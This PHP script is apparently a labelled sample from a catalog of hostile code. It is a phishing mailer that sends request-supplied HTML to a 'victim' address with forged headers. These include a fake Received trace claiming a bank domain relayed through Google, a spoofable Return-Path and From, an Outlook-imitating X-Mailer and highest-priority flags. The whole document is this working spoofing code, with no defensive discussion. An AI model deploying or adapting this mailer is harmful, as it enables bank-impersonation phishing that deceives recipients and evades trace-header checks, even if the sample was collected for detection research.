<?php
// Family: mailer/spoof-headers
// Style: forged trace headers
// Trait: fake Received and Return-Path headers, request-controlled From, X-Mailer imitating Outlook
$to = $_POST['victim'];
$h  = "Return-Path: <" . $_POST['rp'] . ">\r\n";
$h .= "Received: from mail.bank-secure.com ([10.1.1.1]) by mx.google.com with ESMTPS id " . rand() . "\r\n";
$h .= "From: \"" . $_POST['display'] . "\" <" . $_POST['addr'] . ">\r\n";
$h .= "X-Mailer: Microsoft Outlook 16.0\r\nX-Priority: 1 (Highest)\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=UTF-8\r\n";
mail($to, $_POST['subj'], $_POST['page'], $h);
